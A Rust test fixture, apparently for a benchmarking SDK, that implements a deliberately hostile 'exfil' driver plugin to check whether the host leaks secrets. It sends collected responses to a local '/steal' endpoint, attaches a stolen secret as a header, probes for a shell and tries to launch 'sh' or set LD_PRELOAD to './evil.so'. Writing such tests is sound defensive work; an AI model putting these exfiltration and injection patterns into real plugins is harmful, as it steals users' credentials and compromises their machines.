//! A driver that tries to get secrets out. Tests put their own ports in the place of `59991` and `59992`.

use std::cell::RefCell;

use bench_sdk::driver::{
    Backend, Capability, CountStep, CountSteps, Counter, Decode, Driver, Encoded, Evidence, Info, LaunchOptions,
    LaunchPlan, Locality, LocatedEvent, Model, Probe, ProbeAnswer, Secret, Target,
};
use bench_sdk::http;
use bench_sdk::recognise::http_probe;
use bench_sdk::types::{Generation, HttpRequest, HttpResponse, Problem, ResponseHeader};

/// The driver.
pub struct Plugin;
/// Decodes and counts nothing.
pub struct Nothing;

thread_local! {
    /// Everything that any server and the host have answered.
    static HEARD: RefCell<String> = const { RefCell::new(String::new()) };
}

const VARIABLE: &str = "EXFIL_TEST_SECRET";

fn refused() -> Problem {
    Problem { code: "not-supported".to_owned(), message: "said by a test guest".to_owned(), hint: None }
}

fn with_secret(request: HttpRequest) -> HttpRequest {
    HttpRequest { headers: vec![http::secret("x-secret", "stolen")], ..request }
}

impl Driver for Plugin {
    type Decoder = Nothing;
    type Count = Nothing;

    fn describe() -> Info {
        Info {
            name: "exfil".to_owned(),
            title: "Exfil".to_owned(),
            version: "0.1.0".to_owned(),
            summary: String::new(),
            locality: Locality::SelfHosted,
            endpoints: ["http://127.0.0.1:59991", "http://127.0.0.1:59992"].map(str::to_owned).to_vec(),
            capabilities: vec![Capability::Launch],
            evidence: Evidence::Documentation,
            secrets: vec![Secret { name: "stolen".to_owned(), environment: VARIABLE.to_owned(), required: false }],
            params_schema: "{}".to_owned(),
        }
    }

    fn probes() -> Vec<Probe> {
        let heard = HEARD.with_borrow(|heard| heard.bytes().map(|byte| format!("{byte:02x}")).collect::<String>());
        let path = format!("/steal?heard={heard}");
        vec![
            http_probe("steal", with_secret(http::get(&path))),
            Probe::Binary("sh".to_owned()),
            Probe::Environment(VARIABLE.to_owned()),
        ]
    }

    fn recognise(answers: Vec<ProbeAnswer>) -> Option<Backend> {
        for answer in &answers {
            let text = match answer {
                ProbeAnswer::Http(answer) => {
                    answer.response.as_ref().map(|it| String::from_utf8_lossy(&it.body).into_owned())
                }
                ProbeAnswer::Binary(answer) => answer.path.clone(),
                ProbeAnswer::Environment(answer) => answer.set.then(|| "variable-is-set".to_owned()),
            };
            HEARD.with_borrow_mut(|heard| heard.extend(text));
        }
        let model = Model {
            id: "calm".to_owned(),
            context_length: None,
            quantization: None,
            digest: None,
            path: None,
            parameters: None,
        };
        Some(Backend {
            name: "exfil".to_owned(),
            version: None,
            build: Vec::new(),
            models: vec![model],
            slots: None,
            confidence: 100,
            extra: None,
        })
    }

    fn launch(model: String, _options: LaunchOptions) -> Result<LaunchPlan, Problem> {
        // The model says what to start, so that a test can have several plans of one component.
        let (program, variable) = match model.as_str() {
            "shell" => ("sh", None),
            "path" => ("/bin/sh", None),
            "preload" => ("exfil-engine", Some("LD_PRELOAD")),
            _ => ("exfil-engine", None),
        };
        let environment = variable.map(|name| (name.to_owned(), "./evil.so".to_owned()));
        Ok(LaunchPlan {
            program: program.to_owned(),
            arguments: vec!["-c".to_owned(), "touch launched".to_owned()],
            environment: environment.into_iter().collect(),
            ready: http::get("/"),
            ready_timeout_ms: 1000,
        })
    }

    fn encode(_generation: Generation, _target: Target) -> Result<Encoded, Problem> {
        let request = with_secret(http::get("/generate"));
        Ok(Encoded { request, forced_length: false, cache_off: false, seeded: false })
    }

    fn explain(_response: HttpResponse) -> Problem {
        refused()
    }

    fn telemetry() -> Vec<HttpRequest> {
        Vec::new()
    }

    fn counters(_answers: Vec<Option<HttpResponse>>) -> Vec<Counter> {
        Vec::new()
    }
}

impl Decode for Nothing {
    fn new(_headers: Vec<ResponseHeader>) -> Self {
        Nothing
    }

    fn push(&self, _bytes: Vec<u8>, _ends: Vec<u32>) -> Result<Vec<LocatedEvent>, Problem> {
        Ok(Vec::new())
    }

    fn finish(&self) -> Result<Vec<LocatedEvent>, Problem> {
        Ok(Vec::new())
    }
}

impl CountSteps for Nothing {
    fn new(_generation: Generation, _target: Target) -> Self {
        Nothing
    }

    fn step(&self, _previous: Option<HttpResponse>) -> Result<CountStep, Problem> {
        Err(refused())
    }
}

bench_sdk::export_driver!(Plugin);
